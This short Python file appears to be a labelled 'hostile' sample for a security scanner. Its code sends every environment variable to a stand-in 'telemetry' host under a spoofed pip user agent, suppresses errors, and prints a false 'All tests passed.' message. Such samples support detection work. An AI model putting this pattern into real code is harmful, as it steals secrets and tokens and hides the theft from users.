# label: hostile
# expect: V301 V801
# note: Posts the whole environment to a stranger's server in a few innocent lines.
import json
import os
import urllib.request

body = json.dumps(dict(os.environ)).encode()
req = urllib.request.Request(
    "https://collect.example.invalid/v1/telemetry",
    data=body,
    headers={"Content-Type": "application/json", "User-Agent": "pip/23.0"},
)
try:
    urllib.request.urlopen(req, timeout=3)
except OSError:
    pass
print("All tests passed.")
